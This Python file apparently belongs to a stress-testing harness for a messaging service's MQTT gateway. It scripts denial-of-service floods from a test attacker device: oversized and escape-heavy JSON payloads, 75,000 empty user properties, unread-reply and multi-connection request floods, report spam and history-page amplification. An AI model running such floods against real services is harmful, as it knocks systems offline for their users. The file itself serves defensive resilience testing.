"""One signed-in device that publishes as fast as its connection takes it."""

import itertools
import json
import os
from collections.abc import Iterator

import mqtt
from assault import Ammunition, Slot, Volley, endless
from field import Field
from people import ATTACKERS, direct_id, sealed

KILOBYTE = 1024
# One operation of each area: rates are counted by area.
AREAS = [
    "profile/set", "messages/send", "history/get", "sync/get", "receipts/read", "conversations/get", "requests/list",
    "keys/get", "devices/list", "social/follow", "reports/create",
]  # fmt: skip


def _flood(field: Field, ammunition: Ammunition, **options) -> None:
    field.open(Slot(field.tcp, field.mallory.connect_packet(), ammunition=ammunition, **options))


def junk_json(field: Field) -> None:
    """17,000 keys that must be unescaped before they can be told apart, 250 KB, in every area by turns."""
    payload = "{{{}}}".format(",".join(rf'"\u0061{index:04x}":0' for index in range(17_000))).encode()
    _flood(
        field,
        endless(
            *(
                Volley(mqtt.publish(field.mallory.up(operation), payload, packet_id=number + 1), 1)
                for number, operation in enumerate(AREAS)
            )
        ),
    )


def oversize(field: Field) -> None:
    """Requests of more than 256 KiB, which the broker passes on; now and then a packet that it does not."""
    space = b"{" + b" " * (380 * KILOBYTE) + b"}"
    request = Volley(mqtt.publish(field.mallory.up("profile/get"), space, packet_id=1), 1)
    packet = Volley(mqtt.publish(field.mallory.up("profile/get"), b" " * (1 << 20), packet_id=2), 1)
    _flood(field, endless(*[request] * 200, packet))


def user_properties(field: Field) -> None:
    """75,000 user properties of nothing before a payload of two bytes."""
    properties = b"\x26\x00\x00\x00\x00" * 75_000
    packet = mqtt.publish(field.mallory.up("profile/get"), b"{}", packet_id=1, properties=properties)
    _flood(field, endless(Volley(packet, 1)))


def qos0(field: Field) -> None:
    """At QoS 0, which nobody acknowledges and nothing holds back."""
    payload = b"{" + b" " * (383 * KILOBYTE) + b"}"
    _flood(field, endless(Volley(mqtt.publish(field.mallory.up("profile/get"), payload), 1)))


def unread_replies(field: Field) -> None:
    """Requests of the smallest size, whose replies nobody reads: 540,000 in fifteen seconds is what it is about."""
    request = mqtt.publish(field.mallory.up("profile/get"), b"{}", packet_id=1)
    _flood(field, endless(Volley.of(request)), reads=False)


def many_requests(field: Field) -> None:
    """The same with replies that are read, over as many connections as one device may have."""
    request = Volley.of(mqtt.publish(field.mallory.up("profile/get"), b"{}", packet_id=1))
    for number in range(8):
        connect = field.mallory.connect_packet(f"flood{number}")
        field.open(Slot(field.tcp, connect, ammunition=endless(request)))


def reports(field: Field) -> None:
    """Reports of a new message each time, with 96 KiB of evidence, which the gateway is to keep."""
    evidence = {"text": "x" * (95 * KILOBYTE)}

    def volleys() -> Iterator[Volley]:
        for number in itertools.count():
            identifier = f"{os.getpid():08x}-0000-4000-8000-{number:012x}"
            fields = {"id": identifier, "reason": "siege", "user_id": ATTACKERS[1], "evidence": evidence}
            yield Volley(
                mqtt.publish(field.mallory.up("reports/create"), json.dumps(fields).encode(), packet_id=number % 60_000 + 1),
                1,
            )

    _flood(field, volleys)


def websocket_megabytes(field: Field) -> None:
    """600 publishes of a little over 1 MiB over WebSocket, where the broker bounds no packet."""
    payload = b"{" + b" " * (1 << 20) + b"}"
    packet = mqtt.publish(field.mallory.up("profile/get"), payload, packet_id=1)
    field.assault.budget = 600
    field.open(
        Slot(
            field.websocket, field.mallory.connect_packet(), ammunition=lambda: itertools.repeat(Volley(packet, 1), 600),
            websocket=True,
        )
    )  # fmt: skip


def history_pages(field: Field) -> None:
    """Pages of 192 KiB, asked for in a hundred bytes."""
    conversation = direct_id(*ATTACKERS[:2])
    fields = json.dumps({"conversation_id": conversation, "limit": 200}).encode()
    request = mqtt.publish(field.mallory.up("history/get"), fields, packet_id=1)
    for number in range(8):
        connect = field.mallory.connect_packet(f"read{number}")
        opening = mqtt.subscribe([f"{field.mallory.down}/#"])
        field.open(Slot(field.tcp, connect, opening, endless(Volley.of(request, 1024))))


def messages(field: Field) -> None:
    """Messages to a group, as fast as it goes: each is a write and ten deliveries."""

    def volleys() -> Iterator[Volley]:
        content = sealed(1000)
        for number in itertools.count():
            identifier = f"{os.getpid():08x}-0000-4000-8001-{number:012x}"
            fields = {
                "id": identifier, "conversation_id": field.town.attackers_group, "message_type": "text", **content,
            }  # fmt: skip
            packet = mqtt.publish(
                field.mallory.up("messages/send"), json.dumps(fields).encode(), packet_id=number % 60_000 + 1
            )
            yield Volley(packet, 1)

    _flood(field, volleys)
